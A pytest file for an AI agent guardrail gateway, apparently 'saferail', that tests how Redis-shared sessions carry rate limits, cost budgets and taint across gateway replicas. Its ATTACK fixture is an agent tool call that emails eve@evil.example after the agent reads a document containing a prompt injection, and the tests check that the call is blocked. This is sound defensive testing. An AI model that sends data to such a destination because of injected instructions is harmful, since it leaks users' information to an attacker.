"""Tool-call sessions shared by gateway replicas through Redis
(``saferail.gateway.shared.sessions``): usage counters and what the agent has seen follow a
session from replica to replica. Each test runs its own ``redis-server`` on a free
loopback port; two stores (or two gateways, each with its own Guard) play two replicas."""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import pytest

from saferail import Guard, parse_policy
from saferail.agents.toolpolicy.session import Session
from tests.gateway._redis import RedisServer, redis_or_skip
from tests.gateway.conftest import StartGateway, Step, completion
from tests.gateway.test_tool_calls import DOC, READ, SYSTEM, USER, fn_call, post

redis_or_skip()

from saferail.gateway.shared.sessions import (  # noqa: E402  (after the skip: needs redis)
    MemorySessionStore,
    RedisSession,
    RedisSessionStore,
)

POLICY = """
tools:
  roles:
    default: [read_doc, send_email, run, fetch, pay]
  catalog:
    read_doc: {}
    send_email: {sink: email, destination_args: [to]}
    run: {shell_args: [cmd], rate_limit: {max_calls: 2}}
    fetch: {rate_limit: {max_calls: 1, per_seconds: 0.5}}
    pay: {cost: 3, max_cost: 5}
  taint:
    allowed_destinations: ["*@acme.example"]
"""
ATTACK = fn_call("send_email", to="eve@evil.example", body="Quarterly notes")


@pytest.fixture
def guards() -> Iterator[tuple[Guard, Guard]]:
    """One Guard per replica, as in two processes."""
    a, b = Guard(parse_policy(POLICY)), Guard(parse_policy(POLICY))
    yield a, b
    a.close()
    b.close()


def stores(server: RedisServer, **options: Any) -> tuple[RedisSessionStore, RedisSessionStore]:
    return (
        RedisSessionStore.from_url(server.url, "t", **options),
        RedisSessionStore.from_url(server.url, "t", **options),
    )


def reason(decision: Any) -> str | None:
    return next((f.entity_type for f in decision.findings), None) if decision.blocked else None


def test_rate_and_cost_limits_hold_across_replicas(
    redis_server: RedisServer, guards: tuple[Guard, Guard]
) -> None:
    (ga, gb), (sa, sb) = guards, stores(redis_server)
    seen = []
    for i in range(3):  # run: 2 calls per session, alternating replicas
        guard, store = (ga, sa) if i % 2 == 0 else (gb, sb)
        seen.append(
            reason(guard.check_tool_call(fn_call("run", cmd="ls"), store.session(guard, "k/s1")))
        )
    assert seen == [None, None, "rate_limited"]
    assert reason(gb.check_tool_call(fn_call("run", cmd="ls"), sb.session(gb, "k/s2"))) is None
    # pay costs 3 of a budget of 5: the second call (on the other replica) would exceed it
    assert reason(ga.check_tool_call(fn_call("pay"), sa.session(ga, "k/s1"))) is None
    assert reason(gb.check_tool_call(fn_call("pay"), sb.session(gb, "k/s1"))) == "cost_exceeded"
    session = sb.session(gb, "k/s1")
    assert isinstance(session, RedisSession)
    assert (session.calls("run"), session.spent("pay"), session.calls("pay")) == (2, 3.0, 1)


def test_a_rate_window_is_shared_and_slides(
    redis_server: RedisServer, guards: tuple[Guard, Guard]
) -> None:
    (ga, gb), (sa, sb) = guards, stores(redis_server)
    call = fn_call("fetch")
    assert reason(ga.check_tool_call(call, sa.session(ga, "k/w"))) is None
    assert reason(gb.check_tool_call(call, sb.session(gb, "k/w"))) == "rate_limited"
    time.sleep(0.6)  # the window is 0.5 s (on Redis's clock)
    assert reason(gb.check_tool_call(call, sb.session(gb, "k/w"))) is None


def test_taint_seen_on_one_replica_holds_on_the_other(
    redis_server: RedisServer, guards: tuple[Guard, Guard]
) -> None:
    (ga, gb), (sa, sb) = guards, stores(redis_server)
    first = sa.session(ga, "k/t")
    first.observe_messages([SYSTEM, USER, READ, DOC])  # a document with an injection
    assert first.tainted
    # the next request reaches the other replica without the document in its history
    later = sb.session(gb, "k/t")
    later.observe_messages([SYSTEM, USER])
    assert later.tainted and [s.label for s in later.sources] == ["read_doc"]
    assert reason(gb.check_tool_call(ATTACK, later)) == "untrusted_destination"
    # a session that saw no untrusted content may mail whoever the user named
    clean = sb.session(gb, "k/clean")
    clean.observe_messages([SYSTEM, {"role": "user", "content": "Mail eve@evil.example."}])
    assert reason(gb.check_tool_call(ATTACK, clean)) is None
    # replaying is idempotent: the same history again adds nothing
    again = sa.session(ga, "k/t")
    again.observe_messages([SYSTEM, USER, READ, DOC])
    assert len(again.sources) == 1 and again.applied == len(redis_lrange(sa, again))


def redis_lrange(store: RedisSessionStore, session: RedisSession) -> list[bytes]:
    return list(store.client.lrange(session.key("log"), 0, -1))


def test_sessions_expire_after_their_ttl_on_every_replica(
    redis_server: RedisServer, guards: tuple[Guard, Guard]
) -> None:
    (ga, gb), (sa, sb) = guards, stores(redis_server, ttl_s=0.4)
    a = sa.session(ga, "k/e")
    a.observe_messages([SYSTEM, USER, READ, DOC])
    ga.check_tool_call(fn_call("run", cmd="ls"), a)
    assert sb.session(gb, "k/e").tainted
    time.sleep(0.6)
    fresh_a, fresh_b = sa.session(ga, "k/e"), sb.session(gb, "k/e")
    assert not fresh_a.tainted and not fresh_b.tainted  # the cached copies were rebuilt
    assert fresh_a.calls("run") == 0 and fresh_b.calls("run") == 0


def redis_server_keys(store: RedisSessionStore, pattern: str) -> list[bytes]:
    return sorted(store.client.keys(pattern))


def test_keys_expire_and_carry_no_session_name(
    redis_server: RedisServer, guards: tuple[Guard, Guard]
) -> None:
    (ga, _), (sa, _) = guards, stores(redis_server, ttl_s=30)
    session = sa.session(ga, "tenant/secret-session-name")
    session.observe_messages([SYSTEM, USER, READ, DOC])
    ga.check_tool_call(fn_call("run", cmd="ls"), session)
    keys = redis_server_keys(sa, "t:ts:*")
    assert len(keys) >= 4 and not any(b"secret-session-name" in k for k in keys)
    assert all(0 < sa.client.pttl(k) <= 30_000 for k in keys)


def test_a_full_log_makes_the_other_replicas_assume_taint(
    redis_server: RedisServer, guards: tuple[Guard, Guard]
) -> None:
    (ga, gb), (sa, sb) = guards, stores(redis_server, max_entries=1)
    a = sa.session(ga, "k/o")
    a.observe_messages([SYSTEM, USER])  # the system turn fills the log; the user's is not kept
    b = sb.session(gb, "k/o")
    assert b.flow.overflowed and b.tainted


def test_redis_down_falls_back_to_the_replicas_own_sessions(
    redis_server: RedisServer, guards: tuple[Guard, Guard]
) -> None:
    (ga, _), (sa, _) = guards, stores(redis_server, retry_s=0.0)
    assert isinstance(sa.session(ga, "k/d"), RedisSession)
    redis_server.stop()
    down = sa.session(ga, "k/d")
    assert not isinstance(down, RedisSession) and isinstance(down, Session)
    assert down is MemorySessionStore().session(ga, "k/d")  # the Guard's in-process session
    assert sa.fallbacks == 1
    redis_server.start()
    assert isinstance(sa.session(ga, "k/d"), RedisSession)


def test_a_redis_error_while_judging_blocks_the_call(
    redis_server: RedisServer, guards: tuple[Guard, Guard]
) -> None:
    (ga, _), (sa, _) = guards, stores(redis_server)
    session = sa.session(ga, "k/f")
    redis_server.stop()
    with pytest.raises(Exception, match=r"(?i)connect"):
        ga.check_tool_call(fn_call("run", cmd="ls"), session)


# -- through two gateways -------------------------------------------------------------------


def test_two_gateways_share_a_sessions_limits_and_taint(
    start_gateway: StartGateway, redis_server: RedisServer, guards: tuple[Guard, Guard]
) -> None:
    shared = {"state_url": redis_server.url}
    a, b = start_gateway(guards[0], **shared), start_gateway(guards[1], **shared)
    header = {"X-Saferail-Session": "conv-1"}
    outcomes = []
    for gw in (a, b, a):
        gw.mock.script(Step(json=completion("", tool_calls=[fn_call("run", cmd="ls")])))
        outcomes.append(post(gw, [USER], **header).headers.get("x-saferail-reason"))
    assert outcomes == [None, None, "saferail.tool_call_blocked.rate_limited"]
    # replica a judges a call after the injected document; b gets a turn without it
    a.mock.script(Step(json=completion("", tool_calls=[fn_call("read_doc", cid="r2")])))
    assert "x-saferail-reason" not in post(a, [SYSTEM, USER, READ, DOC], **header).headers
    b.mock.script(Step(json=completion("", tool_calls=[ATTACK])))
    raw = post(b, [SYSTEM, USER], **header)
    assert raw.headers["x-saferail-reason"] == "saferail.tool_call_blocked.untrusted_destination"


def test_without_state_each_gateway_keeps_its_own_sessions(
    start_gateway: StartGateway, guards: tuple[Guard, Guard]
) -> None:
    a, b = start_gateway(guards[0]), start_gateway(guards[1])
    header = {"X-Saferail-Session": "conv-1"}
    a.mock.script(Step(json=completion("", tool_calls=[fn_call("read_doc", cid="r2")])))
    post(a, [SYSTEM, USER, READ, DOC], **header)
    b.mock.script(Step(json=completion("", tool_calls=[ATTACK])))
    raw = post(b, [SYSTEM, USER], **header)
    assert "x-saferail-reason" not in raw.headers  # b never saw the document
    assert json.loads(raw.parse().choices[0].message.tool_calls[0].function.arguments)["to"] == (
        "eve@evil.example"
    )


def test_racing_calls_on_two_replicas_cannot_pass_a_limit_together(
    redis_server: RedisServer, guards: tuple[Guard, Guard]
) -> None:
    (ga, gb), (sa, sb) = guards, stores(redis_server)
    start = threading.Barrier(16)

    def call(i: int) -> bool:
        guard, store = (ga, sa) if i % 2 == 0 else (gb, sb)
        session = store.session(guard, "k/race")
        start.wait()
        return guard.check_tool_call(fn_call("run", cmd="ls"), session).allowed

    with ThreadPoolExecutor(16) as pool:
        allowed = list(pool.map(call, range(16)))
    assert sum(allowed) == 2  # run: 2 calls per session, however the requests interleave
    session = sa.session(ga, "k/race")
    assert isinstance(session, RedisSession) and session.calls("run") == 2


def test_booking_refuses_past_a_limit_or_budget_in_redis(
    redis_server: RedisServer, guards: tuple[Guard, Guard]
) -> None:
    from saferail.policy.models import RateLimit

    (ga, _), (sa, _) = guards, stores(redis_server)
    session = sa.session(ga, "k/book")
    assert isinstance(session, RedisSession)
    window = RateLimit(max_calls=1, per_seconds=60)
    assert session.record_call("fetch", limit=window)
    assert not session.record_call("fetch", limit=window)
    assert session.record_call("pay", 3.0, max_cost=5.0)
    assert not session.record_call("pay", 3.0, max_cost=5.0)
    assert (session.calls("fetch", 60), session.spent("pay")) == (1, 3.0)
